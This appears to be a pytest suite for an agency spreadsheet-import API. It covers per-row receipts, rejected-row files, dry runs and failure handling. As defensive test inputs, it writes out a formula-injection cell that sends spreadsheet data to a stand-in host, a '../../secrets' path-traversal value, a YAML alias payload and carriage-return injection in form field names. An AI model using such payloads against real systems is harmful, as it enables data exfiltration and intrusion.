"""An agency sends a file: each row has its receipt or is told what to mend, once, whatever happens."""

from __future__ import annotations

import io
import json
import tempfile
import threading
from collections import Counter
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any
from uuid import UUID

import openpyxl
import pytest
import urllib3
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import func, select, text
from sqlalchemy.exc import DBAPIError
from werkzeug.test import TestResponse

from services.intake.imports import store
from services.intake.imports.api import MOST_SENT
from services.intake.imports.domain.file_import import pause_after
from services.intake.imports.domain.spreadsheet_cell import WHAT_TO_MEND, guarded, unguarded
from services.intake.imports.forget_imports import forget_imports
from services.intake.imports.run_import import run_due_import, run_import
from services.intake.imports.tables import (
    import_batches,
    import_rows,
    imports,
    rejected_cells,
    tried_records,
)
from services.intake.imports.take_file import BATCH_ROWS
from services.intake.tables import messaging, referral_versions, referrals
from services.wsgi import IN_MEMORY, Front
from shared.contracts.envelope import LANES
from shared.identity import new_id
from shared.resealing import reseal
from shared.sealing import load_keys, rotate_keys_file
from shared.service import Room
from tests.support.houses import Hub
from tests.support.hub_processes import wait_until
from tests.support.spreadsheets import AGENCY, COLUMNS, MAPPING, Cells, a_csv, a_row, read_csv
from tests.support.web_server import waiting_on

in_one_process = pytest.mark.parametrize("infrastructure", ["embedded"], indirect=True)

Part = str | tuple[str, bytes]

OTHER_AGENCY = "darlington_borough_council"
FAULTY = {"Client_D.O.B.": "31/02/1980", "Category": "", "Date_Opened": "soon"}


def send(hub: Hub, content: bytes, agency: str = AGENCY, **fields: Part | None) -> TestResponse:
    """Send a file as that agency's clerk does."""
    parts: dict[str, Part | None] = {"file": ("Export of Fable Figment.csv", content), "mapping": MAPPING}
    given_parts = {name: part for name, part in (parts | fields).items() if part is not None}
    body, content_type = urllib3.encode_multipart_formdata(given_parts, boundary="a-boundary")
    return hub.front.post(
        "/v1/imports",
        data=body,
        headers={"Authorization": f"Bearer {hub.key_of(agency)}"},
        content_type=content_type,
    )


def sent(hub: Hub, content: bytes, agency: str = AGENCY, **fields: Part | None) -> str:
    """Send a file that is taken; the id of its import."""
    answer = send(hub, content, agency, **fields)
    assert answer.status_code == 202, answer.text
    told = answer.get_json()
    assert answer.headers["Location"] == f"/v1/imports/{told['id']}"
    return str(told["id"])


def ask(hub: Hub, path: str, agency: str = AGENCY) -> Any:  # noqa: ANN401 - any JSON
    answer = hub.ask(f"/v1/imports{path}", hub.key_of(agency))
    assert answer.status_code == 200, answer.text
    return answer.get_json()


def counts_of(hub: Hub, import_id: str) -> dict[str, int]:
    counts: dict[str, int] = ask(hub, f"/{import_id}")["counts"]
    return {name: count for name, count in counts.items() if count}


def rows_of(hub: Hub, import_id: str, outcome: str | None = None) -> list[dict[str, Any]]:
    """Every row, page by page."""
    found: list[dict[str, Any]] = []
    query = "?limit=7" + (f"&outcome={outcome}" if outcome else "")
    cursor = ""
    while True:
        page = ask(hub, f"/{import_id}/rows{query}{cursor}")
        found += page["rows"]
        if page["next_cursor"] is None:
            return found
        cursor = f"&cursor={page['next_cursor']}"


def count(room: Room, table: Any) -> int:  # noqa: ANN401 - any table
    with room.database.reading() as connection:
        return int(connection.execute(select(func.count()).select_from(table)).scalar_one())


def take_all(hub: Hub) -> None:
    """Take every row that waits; nobody else does anything."""
    while run_due_import(hub.rooms["intake"]):
        pass


def is_each_taken_once(room: Room, rows: int) -> None:
    """So many referrals, none amended, each said once, in the bulk lane."""
    with room.database.reading() as connection:
        said = Counter(connection.execute(select(messaging.outbox.c.lane)).scalars())
        versions = Counter(connection.execute(select(referrals.c.version)).scalars())
    assert versions == {1: rows}
    assert count(room, referral_versions) == 0
    assert said == {LANES.index("bulk"): rows}


# ------------------------------------------------------------------------------------------- row by row


def test_each_row_of_a_file_has_its_receipt_or_its_faults(hub: Hub) -> None:
    rows = [a_row(1), a_row(2, **FAULTY), a_row(3, Client_Tel="call the neighbour"), a_row(1)]
    import_id = sent(hub, a_csv(rows))
    assert ask(hub, f"/{import_id}")["state"] == "waiting"
    assert counts_of(hub, import_id) == {"rows": 4, "waiting": 4}
    hub.settle()
    told = ask(hub, f"/{import_id}")
    assert (told["state"], told["mapping"], told["dry_run"]) == ("done", MAPPING, False)
    assert counts_of(hub, import_id) == {"rows": 4, "new": 2, "repeats": 1, "rejected": 1}
    assert {"no_safe_contact", "strange_phone"} <= {warning["code"] for warning in told["warnings"]}

    first, faulty, strange, again = rows_of(hub, import_id)
    assert [row["row"] for row in (first, faulty, strange, again)] == [2, 3, 4, 5]
    assert first["outcome"] == "new"
    assert first["receipt"]["source_record_id"] == "INVENTED/000001"
    assert "strange_phone" in {warning["code"] for warning in strange["receipt"]["warnings"]}
    assert (again["outcome"], again["receipt"]) == ("repeat", first["receipt"])
    status = hub.ask(f"/v1/referrals/{first['receipt']['reference']}", hub.key_of(AGENCY)).get_json()
    # The export knows no safe way to reach anybody: the case is returned, with what it lacks.
    assert status["status"] == "returned"
    assert [missing["code"] for missing in status["missing"]] == ["safe_contact"]
    assert {name: status[name] for name in first["receipt"] if name != "status"} == {
        name: value for name, value in first["receipt"].items() if name != "status"
    }

    assert faulty["outcome"] == "rejected"
    assert {fault["column"] for fault in faulty["faults"]} == {"Client D.O.B.", "Category", "Date Opened"}
    assert all(fault["code"] and fault["detail"] for fault in faulty["faults"])
    assert rows_of(hub, import_id, "rejected") == [faulty]
    assert rows_of(hub, import_id, "repeat") == [again]


def test_rows_travel_in_the_bulk_lane_and_each_is_said_once(hub: Hub) -> None:
    rows = 2 * BATCH_ROWS + 1
    import_id = sent(hub, a_csv(map(a_row, range(rows))))
    room = hub.rooms["intake"]
    take_all(hub)
    assert counts_of(hub, import_id) == {"rows": rows, "new": rows}
    is_each_taken_once(room, rows)
    assert len(rows_of(hub, import_id)) == rows
    assert count(room, import_batches) == 0


@in_one_process
@pytest.mark.parametrize("between", [0, 2 * BATCH_ROWS])
def test_a_record_that_comes_twice_in_a_file_and_says_something_else_is_told(hub: Hub, between: int) -> None:
    sent(hub, a_csv([a_row(3)]))
    hub.settle()
    hub.clock.move(hours=1)
    rows = [a_row(1), a_row(2), *map(a_row, range(10, 10 + between))]
    # Another person of the same case, the same row once more, and what has changed since an earlier file.
    rows += [a_row(1, Client_Forename="Another"), a_row(2), a_row(3, Category="Noise")]
    for dry_run in ("true", "false"):
        import_id = sent(hub, a_csv(rows), dry_run=dry_run)
        take_all(hub)
        told = ask(hub, f"/{import_id}")
        assert told["counts"]["amended"] == 2
        assert {one["code"]: one["rows"] for one in told["warnings"]}["record_twice_in_file"] == 1


@in_one_process
def test_rows_that_a_filter_hides_are_taken_and_told_of(hub: Hub) -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    for row in (COLUMNS, *(tuple(a_row(number).values()) for number in (1, 2, 3))):
        sheet.append(row)
    sheet.row_dimensions[3].hidden = True
    written = io.BytesIO()
    book.save(written)
    import_id = sent(hub, written.getvalue(), dry_run="true")
    take_all(hub)
    told = ask(hub, f"/{import_id}")
    assert told["counts"]["new"] == 3
    assert {one["code"]: one["rows"] for one in told["warnings"]}["hidden_row"] == 1


def test_a_receipt_is_that_of_the_version_that_the_row_made(hub: Hub) -> None:
    rows = [a_row(1), a_row(1, Category="Noise"), a_row(1, Category="Theft"), a_row(1)]
    import_id = sent(hub, a_csv(rows))
    hub.settle()
    told = rows_of(hub, import_id)
    assert [(row["outcome"], row["receipt"]["version"]) for row in told] == [
        ("new", 1),
        ("amended", 2),
        ("amended", 3),
        ("repeat", 1),
    ]
    assert len({row["receipt"]["reference"] for row in told}) == 1


@in_one_process
def test_columns_that_the_mapping_does_not_know_are_named(hub: Hub) -> None:
    content = a_csv([a_row(1) | {"Shift": "late", "Desk": ""}], (*COLUMNS, "Shift", "Desk", WHAT_TO_MEND))
    import_id = sent(hub, content)
    hub.settle()
    assert ask(hub, f"/{import_id}")["unknown_columns"] == ["Shift", "Desk"]
    assert counts_of(hub, import_id) == {"rows": 1, "new": 1}


@in_one_process
def test_a_file_can_bring_a_mapping_of_its_own(hub: Hub) -> None:
    own = """
name: own
columns:
  Number: source_record_id
  Opened: referred_at
  Kind: event.type
  Team: referrer.organisation
always:
  strand: crime
parties:
  - name: Person
    role: harmed
    columns:
      Surname: name.family
"""
    row = {
        "Number": "7",
        "Opened": "19/03/2026 14:05",
        "Kind": "theft",
        "Team": "Invented",
        "Surname": "Fable",
    }
    content = a_csv([row], row)
    import_id = sent(hub, content, mapping=None, mapping_file=("own.yaml", own.encode()))
    hub.settle()
    assert counts_of(hub, import_id) == {"rows": 1, "new": 1}
    assert ask(hub, f"/{import_id}")["mapping"] is None
    again = sent(hub, content, mapping=None, mapping_file=own)
    hub.settle()
    assert counts_of(hub, again) == {"rows": 1, "repeats": 1}
    for mistaken in ("columns: {Number: nowhere}", "- " * 5000, "\0", "&a [*a]", '"\\ud800": x'):
        answer = send(hub, content, mapping=None, mapping_file=mistaken)
        assert answer.status_code == 422, mistaken[:20]
        assert answer.get_json()["type"].endswith(":mistaken_mapping")


@in_one_process
def test_a_row_that_takes_its_date_from_the_day_on_which_it_came_is_the_same_row_tomorrow(hub: Hub) -> None:
    own = """
name: own
columns:
  Number: source_record_id
  Opened: {to: referred_at, when_blank: when_received}
  Kind: event.type
  Team: referrer.organisation
always:
  strand: crime
parties:
  - name: Person
    role: harmed
    columns:
      Surname: name.family
"""
    row = {"Number": "7", "Opened": "", "Kind": "theft", "Team": "Invented", "Surname": "Fable"}
    content = a_csv([row], row)
    first = sent(hub, content, mapping=None, mapping_file=own)
    take_all(hub)
    assert counts_of(hub, first) == {"rows": 1, "new": 1}
    hub.clock.move(days=1)
    again = sent(hub, content, mapping=None, mapping_file=own)
    take_all(hub)
    assert counts_of(hub, again) == {"rows": 1, "repeats": 1}


# -------------------------------------------------------------------------------------- what is refused


@in_one_process
def test_every_fault_of_the_parts_is_told_at_once(hub: Hub) -> None:
    answer = send(hub, b"", file=None, mapping="../../secrets", dry_run="perhaps", colour="red")
    assert answer.status_code == 422
    told = {(fault["pointer"], fault["code"]) for fault in answer.get_json()["errors"]}
    assert told == {
        ("/file", "required"),
        ("/mapping", "not_allowed"),
        ("/dry_run", "not_allowed"),
        ("/colour", "unknown_field"),
    }
    assert "secrets" not in answer.text
    nothing = send(hub, b"", mapping=None)
    assert [fault["pointer"] for fault in nothing.get_json()["errors"]] == ["/mapping"]
    both = send(hub, b"", mapping_file="name: own")
    assert [fault["pointer"] for fault in both.get_json()["errors"]] == ["/mapping"]
    assert ask(hub, "")["imports"] == []


@pytest.mark.parametrize("name", [b"", b"da\rk", b"%0Ddark"])
@in_one_process
def test_a_part_whose_name_cannot_be_read_is_told_and_costs_nothing_else(hub: Hub, name: bytes) -> None:
    body = b'--B\r\nContent-Disposition: form-data; name="' + name + b'"\r\n\r\nyes\r\n--B--\r\n'
    answer = hub.front.post(
        "/v1/imports",
        data=body,
        headers={"Authorization": f"Bearer {hub.key_of(AGENCY)}"},
        content_type="multipart/form-data; boundary=B",
    )
    assert answer.status_code == 422, answer.text
    assert ("", "unknown_field") in {(one["pointer"], one["code"]) for one in answer.get_json()["errors"]}


@in_one_process
def test_no_part_is_left_out_without_a_word(hub: Hub) -> None:
    def faults(**parts: list[Part]) -> set[tuple[str, str]]:
        usual: dict[str, list[Part]] = {"file": [("a.csv", a_csv([a_row()]))], "mapping": [MAPPING]}
        every = [(name, part) for name, several in (usual | parts).items() for part in several]
        body, content_type = urllib3.encode_multipart_formdata(every, boundary="a-boundary")
        key = {"Authorization": f"Bearer {hub.key_of(AGENCY)}"}
        answer = hub.front.post("/v1/imports", data=body, headers=key, content_type=content_type)
        assert answer.status_code == 422, answer.text
        return {(fault["pointer"], fault["code"]) for fault in answer.get_json()["errors"]}

    one, other = ("a.csv", a_csv([a_row()])), ("b.csv", a_csv([a_row()]))
    assert faults(file=[one, other]) == {("/file", "given_twice")}
    assert faults(file=[one], file2=[other]) == {("/file2", "unknown_field")}
    assert faults(mapping=[MAPPING, "first"]) == {("/mapping", "given_twice")}
    # A trial that is not noticed would be in earnest.
    assert faults(dry_run=[("a", b"true")]) == {("/dry_run", "wrong_type")}
    assert faults(mapping=[("a", MAPPING.encode())]) == {("/mapping", "wrong_type")}
    assert ask(hub, "")["imports"] == []


@in_one_process
def test_what_is_no_file_of_rows_is_refused_and_leaves_nothing(hub: Hub) -> None:
    columns = [name for name in COLUMNS if name not in ("Case Ref", "Category")]
    lacking = send(hub, a_csv([a_row()], columns))
    assert lacking.status_code == 422
    assert lacking.get_json()["type"].endswith(":missing_columns")
    assert [fault["detail"] for fault in lacking.get_json()["errors"]] == [
        "Add the column Case Ref.",
        "Add the column Category.",
    ]
    empty = send(hub, b"")
    assert (empty.status_code, empty.get_json()["type"].rpartition(":")[2]) == (422, "unreadable_file")
    form = hub.front.post("/v1/imports", json={}, headers={"Authorization": f"Bearer {hub.key_of(AGENCY)}"})
    assert form.status_code == 415
    # What is wrong further down is found when rows are put away already: they are taken away again.
    broken = send(hub, a_csv(map(a_row, range(11 * BATCH_ROWS))) + b'"' + b"x" * (2 * 2**20))
    assert broken.status_code == 422, broken.text
    room = hub.rooms["intake"]
    assert [count(room, table) for table in (imports, import_batches, import_rows)] == [0, 0, 0]


@in_one_process
def test_a_file_of_more_than_64_mebibytes_is_413(hub: Hub) -> None:
    answer = send(hub, b"x" * MOST_SENT)
    assert answer.status_code == 413
    assert answer.content_type == "application/problem+json"


@in_one_process
@pytest.mark.parametrize("query", ["limit=0", "limit=201", "outcome=lost", "cursor=x", "colour=red"])
def test_a_wrong_question_about_rows_is_422(hub: Hub, query: str) -> None:
    import_id = sent(hub, a_csv([a_row()]))
    assert hub.ask(f"/v1/imports/{import_id}/rows?{query}", hub.key_of(AGENCY)).status_code == 422


# ------------------------------------------------------------------------------------------ who may see


@in_one_process
def test_another_agency_sees_nothing_of_an_import(hub: Hub) -> None:
    content = a_csv([a_row(1), a_row(2, **FAULTY)])
    import_id = sent(hub, content)
    hub.settle()
    for path in ("", "/rows", "/rejected"):
        other = hub.ask(f"/v1/imports/{import_id}{path}", hub.key_of(OTHER_AGENCY))
        none = hub.ask(f"/v1/imports/{new_id()}{path}", hub.key_of(OTHER_AGENCY))
        assert (other.status_code, none.status_code) == (404, 404)
        assert {**other.get_json(), "instance": ""} == {**none.get_json(), "instance": ""}
    assert ask(hub, "", OTHER_AGENCY) == {"imports": [], "next_cursor": None}
    # The same file of another agency is another file.
    theirs = sent(hub, content, OTHER_AGENCY)
    hub.settle()
    assert ask(hub, f"/{theirs}", OTHER_AGENCY)["counts"]["new"] == 1


@in_one_process
def test_an_agency_lists_its_imports_the_newest_first_page_by_page(hub: Hub) -> None:
    made = [sent(hub, a_csv([a_row(number)])) for number in range(5)]
    listed: list[str] = []
    cursor = ""
    while True:
        page = ask(hub, f"?limit=2{cursor}")
        listed += [one["id"] for one in page["imports"]]
        if page["next_cursor"] is None:
            break
        cursor = f"&cursor={page['next_cursor']}"
    assert listed == made[::-1]


# --------------------------------------------------------------------------------------------- to mend


def rejected_of(hub: Hub, import_id: str) -> str:
    answer = hub.ask(f"/v1/imports/{import_id}/rejected", hub.key_of(AGENCY))
    assert answer.status_code == 200
    assert answer.content_type.startswith("text/csv")
    return answer.get_data().decode()


def test_a_rejected_row_comes_back_is_mended_and_is_taken(hub: Hub) -> None:
    rows = [a_row(1), a_row(2, **FAULTY), a_row(3)]
    import_id = sent(hub, a_csv(rows))
    hub.settle()
    (back,) = read_csv(rejected_of(hub, import_id))
    assert {name: back[name] for name in COLUMNS} == rows[1]
    for column in ("Client D.O.B.", "Category", "Date Opened"):
        assert f"{column}: " in back[WHAT_TO_MEND]
    mended = back | {name: a_row(2)[name] for name in ("Client D.O.B.", "Category", "Date Opened")}
    again = sent(hub, a_csv([mended], back))
    hub.settle()
    told = ask(hub, f"/{again}")
    assert (told["state"], told["unknown_columns"]) == ("done", [])
    assert counts_of(hub, again) == {"rows": 1, "new": 1}
    assert read_csv(rejected_of(hub, again)) == []


@in_one_process
def test_no_cell_that_comes_back_is_a_formula_and_each_comes_in_again_as_it_was(hub: Hub) -> None:
    cells = {
        "Client Forename": '=HYPERLINK("http://invented.example/?"&A1,"Fable")',
        "Client Surname": "@SUM(A1)",
        "Client Tel": "+44 7700 900123",
        "Client Address": "-1+1",
        "Case Notes": '\'=quoted already; "with" marks,\nand a line',
        "Category": "",
    }
    import_id = sent(hub, a_csv([a_row(1) | cells]))
    hub.settle()
    content = rejected_of(hub, import_id)
    (back,) = read_csv(content)
    assert [name for name, cell in back.items() if cell.lstrip()[:1] in set("=+-@")] == []
    # Mended and sent again, it is what it would have been if it had been right at once.
    again = sent(hub, a_csv([back | {"Category": "Assault"}], back))
    hub.settle()
    assert counts_of(hub, again) == {"rows": 1, "new": 1}
    at_once = sent(hub, a_csv([a_row(1) | cells | {"Category": "Assault"}]))
    hub.settle()
    assert counts_of(hub, at_once) == {"rows": 1, "repeats": 1}


def a_spreadsheet(rows: list[Cells], columns: tuple[str, ...] = COLUMNS) -> bytes:
    """The rows as a spreadsheet program keeps them."""
    book, written = openpyxl.Workbook(), io.BytesIO()
    book.worksheets[0].append(columns)
    for row in rows:
        book.worksheets[0].append([row.get(name, "") for name in columns])
    book.save(written)
    return written.getvalue()


@in_one_process
def test_what_came_as_a_spreadsheet_goes_back_as_one_in_which_every_cell_is_text(
    hub: Hub, monkeypatch: pytest.MonkeyPatch
) -> None:
    faulty = a_row(2, **FAULTY) | {"Client Forename": "=1+1"}
    content = a_spreadsheet([a_row(1), faulty | {"Client Forename": "'=1+1"}])
    # Whoever wants a temporary file now fails.
    monkeypatch.setattr(tempfile, "tempdir", "/nowhere")
    import_id = sent(hub, content, file=("export.xlsx", content))
    take_all(hub)
    assert counts_of(hub, import_id) == {"rows": 2, "new": 1, "rejected": 1}
    answer = hub.ask(f"/v1/imports/{import_id}/rejected", hub.key_of(AGENCY))
    assert answer.headers["Content-Disposition"] == 'attachment; filename="rejected-rows.xlsx"'
    monkeypatch.undo()
    head, row = openpyxl.load_workbook(io.BytesIO(answer.get_data())).worksheets[0].iter_rows()
    assert {cell.number_format for cell in (*head, *row)} == {"@"}
    assert {cell.data_type for cell in (*head, *row) if cell.value} == {"s"}
    back = {str(name.value): str(cell.value or "") for name, cell in zip(head, row, strict=True)}
    assert {name: back[name] for name in COLUMNS} == faulty | {"Client Forename": "'=1+1"}
    assert "Client D.O.B.: " in back[WHAT_TO_MEND]
    mended = back | {name: a_row(2)[name] for name in ("Client D.O.B.", "Category", "Date Opened")}
    content = a_spreadsheet([mended], tuple(back))
    again = sent(hub, content, file=("mended.xlsx", content))
    take_all(hub)
    assert counts_of(hub, again) == {"rows": 1, "new": 1}


@given(st.text(alphabet="'=+-@ \t\r\n\uff1d\uff0bab", max_size=6))
def test_a_guarded_cell_is_no_formula_and_without_its_guard_is_what_it_was(cell: str) -> None:
    assert unguarded(guarded(cell)) == cell
    assert not guarded(cell).lstrip().startswith(("=", "+", "-", "@", "\uff1d", "\uff0b", "\t", "\r", "\n"))


# ----------------------------------------------------------------------------------- again, and in trial


def test_the_same_file_again_goes_on_and_after_its_end_makes_nothing_new(hub: Hub) -> None:
    rows = 2 * BATCH_ROWS
    content, room = a_csv(map(a_row, range(rows))), hub.rooms["intake"]
    import_id = sent(hub, content)
    assert run_due_import(room) == BATCH_ROWS
    assert sent(hub, content) == import_id
    assert counts_of(hub, import_id) == {"rows": rows, "new": BATCH_ROWS, "waiting": rows - BATCH_ROWS}
    assert ask(hub, f"/{import_id}")["state"] == "running"
    take_all(hub)
    is_each_taken_once(room, rows)
    second = sent(hub, content)
    assert second != import_id
    take_all(hub)
    assert counts_of(hub, second) == {"rows": rows, "repeats": rows}
    is_each_taken_once(room, rows)


@in_one_process
def test_a_row_without_a_date_that_comes_again_another_day_is_a_repeat(hub: Hub) -> None:
    row = {
        "Your reference": "INVENTED-1",
        "Your name": "Robin Sample",
        "What happened": "Loud music",
        "Harmed person 1 first name": "Tamsin",
        "Other person 1 address": "27 Brook Row, Exampleton, DH1 9ZZ",
    }
    first = sent(hub, a_csv([row], row), mapping="practitioner_form")
    hub.settle()
    assert counts_of(hub, first) == {"rows": 1, "new": 1}
    hub.clock.move(days=1)
    second = sent(hub, a_csv([row, row | {"Your reference": "INVENTED-2"}], row), mapping="practitioner_form")
    hub.settle()
    assert counts_of(hub, second) == {"rows": 2, "repeats": 1, "new": 1}


def test_a_trial_tells_what_would_happen_and_keeps_nothing(hub: Hub) -> None:
    room = hub.rooms["intake"]
    known = sent(hub, a_csv([a_row(1)]))
    take_all(hub)
    said = count(room, messaging.outbox)
    rows = [a_row(1), a_row(1, Category="Noise"), a_row(2, **FAULTY), *map(a_row, range(10, 10 + BATCH_ROWS))]
    # What an earlier row of the same file would have made is known to a later one, batches apart.
    rows += [a_row(10), a_row(11, Category="Noise"), a_row(1, Category="Noise")]
    import_id = sent(hub, a_csv(rows), dry_run="true")
    take_all(hub)
    told = ask(hub, f"/{import_id}")
    assert (told["state"], told["dry_run"]) == ("done", True)
    tried = {
        "rows": len(rows),
        "repeats": 3,
        "amended": 2,
        "rejected": 1,
        "new": BATCH_ROWS,
    }
    assert counts_of(hub, import_id) == tried
    assert [row["outcome"] for row in rows_of(hub, import_id)[-3:]] == ["repeat", "amended", "repeat"]
    assert "receipt" not in rows_of(hub, import_id)[0]
    assert len(read_csv(rejected_of(hub, import_id))) == 1
    assert (count(room, referrals), count(room, messaging.outbox)) == (1, said)

    # In earnest, the same happens.
    earnest = sent(hub, a_csv(rows))
    assert earnest not in (import_id, known)
    take_all(hub)
    assert counts_of(hub, earnest) == tried

    hub.clock.move(hours=25)
    forget_imports(room)
    assert hub.ask(f"/v1/imports/{import_id}/rows", hub.key_of(AGENCY)).status_code == 410
    assert hub.ask(f"/v1/imports/{import_id}/rejected", hub.key_of(AGENCY)).status_code == 410
    assert counts_of(hub, import_id) == tried
    assert count(room, tried_records) == 0
    assert count(room, import_rows) == 1 + len(rows)
    assert len(read_csv(rejected_of(hub, earnest))) == 1


@in_one_process
def test_rejected_rows_are_forgotten_after_the_days_that_the_settings_say(
    make_hub: Callable[..., Hub],
) -> None:
    hub = make_hub(rejected_rows_days="3")
    import_id = sent(hub, a_csv([a_row(1), a_row(2, **FAULTY)]))
    hub.settle()
    hub.clock.move(days=2)
    hub.settle()
    assert len(read_csv(rejected_of(hub, import_id))) == 1
    hub.clock.move(days=2)
    hub.settle()
    assert count(hub.rooms["intake"], rejected_cells) == 0
    assert hub.ask(f"/v1/imports/{import_id}/rejected", hub.key_of(AGENCY)).status_code == 410
    (row,) = rows_of(hub, import_id, "rejected")
    assert row["faults"]


@pytest.mark.parametrize(
    "infrastructure", [pytest.param("production", marks=pytest.mark.production)], indirect=True
)
def test_a_trial_that_is_forgotten_while_a_worker_has_it_comes_to_its_end_and_is_in_nobodys_way(
    hub: Hub,
) -> None:
    room = hub.rooms["intake"]
    import_id = sent(hub, a_csv([a_row(1)]), dry_run="true")
    hub.clock.move(hours=25)
    with ThreadPoolExecutor(1) as other:
        with room.unit() as unit:
            assert store.hold(unit, UUID(import_id)) is not None
            forgetting = other.submit(forget_imports, room)
            wait_until(lambda: somebody_waits(room) or forgetting.done(), 60, "whoever forgets waits")
        assert forgetting.result(60) == 1
    assert ask(hub, f"/{import_id}")["state"] == "refused"
    another = sent(hub, a_csv([a_row(2)]))
    take_all(hub)
    assert ask(hub, f"/{another}")["state"] == "done"


def somebody_waits(room: Room) -> bool:
    waiting = text(
        "SELECT count(*) FROM pg_stat_activity"
        " WHERE datname = current_database() AND wait_event_type = 'Lock'"
    )
    with room.database.reading() as connection:
        return bool(connection.execute(waiting).scalar_one())


@in_one_process
def test_a_trial_that_was_forgotten_and_never_came_to_its_end_does_so_now(hub: Hub) -> None:
    room = hub.rooms["intake"]
    import_id = sent(hub, a_csv([a_row(1)]), dry_run="true")
    with room.unit() as unit:
        store.forget_rows(unit, UUID(import_id))
        store.mark_forgotten(unit, UUID(import_id))
    another = sent(hub, a_csv([a_row(2)]))
    hub.clock.move(hours=25)
    hub.settle()
    assert [ask(hub, f"/{one}")["state"] for one in (import_id, another)] == ["refused", "done"]


# ------------------------------------------------------------------------------------ whatever happens


def test_a_failure_between_two_batches_loses_nothing_and_doubles_nothing(hub: Hub) -> None:
    room, rows = hub.rooms["intake"], 3 * BATCH_ROWS
    import_id = sent(hub, a_csv(map(a_row, range(rows))))
    assert run_due_import(room) == BATCH_ROWS
    # The table that is written last is away: the referrals of the batch are written already.
    with room.database.transaction() as connection:
        connection.execute(text("ALTER TABLE import_rows RENAME TO import_rows_away"))
    with pytest.raises(DBAPIError):
        run_due_import(room)
    assert run_due_import(room) == 0  # it rests for a moment
    with room.database.transaction() as connection:
        connection.execute(text("ALTER TABLE import_rows_away RENAME TO import_rows"))
    assert counts_of(hub, import_id) == {"rows": rows, "new": BATCH_ROWS, "waiting": 2 * BATCH_ROWS}
    is_each_taken_once(room, BATCH_ROWS)
    hub.clock.move(seconds=pause_after(1).total_seconds())
    take_all(hub)
    assert counts_of(hub, import_id) == {"rows": rows, "new": rows}
    is_each_taken_once(room, rows)


def test_two_workers_on_one_import_take_each_row_once_and_in_order(hub: Hub) -> None:
    rows, room = 4 * BATCH_ROWS, hub.rooms["intake"]
    # The last quarter amends the first.
    file = [a_row(number % (3 * BATCH_ROWS), Category="Noise" if number >= 3 * BATCH_ROWS else "Assault")
            for number in range(rows)]  # fmt: skip
    import_id = sent(hub, a_csv(file))
    with room.database.reading() as connection:
        one = store.find_due(connection, room.clock())
    assert str(one) == import_id
    others = [room.service.furnish(hub.settings, hub.clock) for _ in range(2)]
    line, took, failures = threading.Barrier(2), [0, 0], []

    def work(worker: int) -> None:
        try:
            while True:
                line.wait(60)
                took[worker] += run_import(one, others[worker])  # type: ignore[arg-type]
                line.wait(60)
                if sum(took) == rows:
                    return
        except BaseException as error:  # noqa: BLE001 - whatever ends a thread is the test's to tell
            failures.append(error)
            line.abort()

    threads = [threading.Thread(target=work, args=(worker,)) for worker in (0, 1)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    for other in others:
        other.close()
    assert failures == []
    assert counts_of(hub, import_id) == {"rows": rows, "new": 3 * BATCH_ROWS, "amended": BATCH_ROWS}
    with room.database.reading() as connection:
        versions = Counter(connection.execute(select(referrals.c.version)).scalars())
    assert versions == {1: 2 * BATCH_ROWS, 2: BATCH_ROWS}
    assert count(room, messaging.outbox) == rows


@in_one_process
def test_an_import_that_fails_again_and_again_is_in_nobodys_way_and_is_refused(
    make_hub: Callable[..., Hub], tmp_path: Path
) -> None:
    ours = Path("shared/directories/county_durham_and_darlington.yaml").read_text(encoding="utf-8")
    directory = tmp_path / "directory.yaml"
    directory.write_text(ours, encoding="utf-8")
    hub = make_hub(directory=str(directory))
    failing = sent(hub, a_csv([a_row(1)]))
    # The agency has left the directory; its file is still there.
    room = hub.rooms["intake"]
    without = {slug: one for slug, one in room.directory.agencies.items() if slug != AGENCY}
    object.__setattr__(room.directory, "agencies", without)
    other = sent(hub, a_csv([a_row(2)]), OTHER_AGENCY)
    with pytest.raises(KeyError):
        run_due_import(room)
    take_all(hub)
    assert ask(hub, f"/{other}", OTHER_AGENCY)["state"] == "done"
    for _ in range(5):
        hub.clock.move(minutes=5)
        with pytest.raises(KeyError):
            run_due_import(room)
    hub.clock.move(minutes=5)
    assert run_due_import(room) == 0
    told = ask(hub, f"/{failing}")
    assert told["state"] == "refused"
    assert "Tell whoever runs the hub" in told["refusal"]


@in_one_process
def test_a_file_whose_reader_died_is_swept_up(hub: Hub) -> None:
    room = hub.rooms["intake"]
    import_id = sent(hub, a_csv([a_row(1)]))
    with room.unit() as unit:
        unit.change(imports, {"id": store.find_due(unit.connection, unit.now)}, state="reading")
    assert hub.ask(f"/v1/imports/{import_id}", hub.key_of(AGENCY)).status_code == 404
    assert ask(hub, "")["imports"] == []
    hub.clock.move(hours=25)
    hub.settle()
    assert [count(room, table) for table in (imports, import_batches)] == [0, 0]


@in_one_process
def test_what_waits_and_what_was_rejected_opens_after_the_keys_rotated(hub: Hub) -> None:
    room = hub.rooms["intake"]
    rejected = sent(hub, a_csv([a_row(1, **FAULTY)]))
    hub.settle()
    waiting = sent(hub, a_csv([a_row(2)]))
    rotate_keys_file(hub.settings.home)
    newer = load_keys(hub.settings.key_texts, hub.settings.home)
    assert reseal(room.database, newer.rest, store.SEALED) == 4  # two heads, a batch, a row
    path = hub.settings.home / "keys.json"
    texts = json.loads(path.read_text(encoding="utf-8"))
    newest = texts["HUB_SEALING_KEYS"].partition(",")[0]
    path.write_text(json.dumps(texts | {"HUB_SEALING_KEYS": newest}), encoding="utf-8")
    room.keys = load_keys(hub.settings.key_texts, hub.settings.home)
    hub.settle()
    assert counts_of(hub, waiting) == {"rows": 1, "new": 1}
    assert len(read_csv(rejected_of(hub, rejected))) == 1


@in_one_process
def test_a_long_file_is_nowhere_on_the_disk_while_it_comes_in(
    hub: Hub, monkeypatch: pytest.MonkeyPatch
) -> None:
    rows = [a_row(number, Case_Notes="An invented account." * 190, Category="") for number in range(400)]
    content = a_csv(rows)
    assert len(content) > 3 * 500 * 1024  # web servers and frameworks think of a disk from here on
    headers = {"Authorization": f"Bearer {hub.key_of(AGENCY)}"}
    with waiting_on(Front(hub.rooms), **IN_MEMORY) as address, urllib3.PoolManager() as pool:
        # Whoever wants a temporary file now fails.
        monkeypatch.setattr(tempfile, "tempdir", "/nowhere")
        url = f"{address}/v1/imports"
        answer = pool.request(
            "POST", url, fields={"file": ("export.csv", content), "mapping": MAPPING}, headers=headers
        )
        assert answer.status == 202, answer.data
        hub.settle()
